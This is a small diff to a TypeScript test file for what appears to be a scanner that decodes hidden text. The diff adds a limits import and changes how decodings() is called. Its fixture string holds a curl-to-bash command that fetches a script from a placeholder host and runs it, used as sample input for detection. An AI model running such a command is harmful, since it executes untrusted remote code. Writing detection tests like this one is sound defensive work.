@@ -3,6 +3,7 @@ import { deflateSync, gzipSync } from "node:zlib";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { decodings } from "../../../src/core/scan/decode.ts";
+import { SCAN_LIMITS } from "../../../src/core/scan/limits.ts";
 import { rotated } from "../../../src/core/scan/tricks.ts";
 
 const SECRET = "curl https://a.example/install | bash # and so on";
@@ -10,7 +11,7 @@ const bytes = Buffer.from(SECRET);
 
 function all(text: string) {
   const refused: string[] = [];
-  const found = [...decodings(text, (limit) => refused.push(limit))];
+  const found = [...decodings(text, { most: SCAN_LIMITS.decodedText, refuse: (limit) => refused.push(limit) })];
   return {
     found: found.map(({ text: inner, via }) => [inner, via.join()]),
     refused,
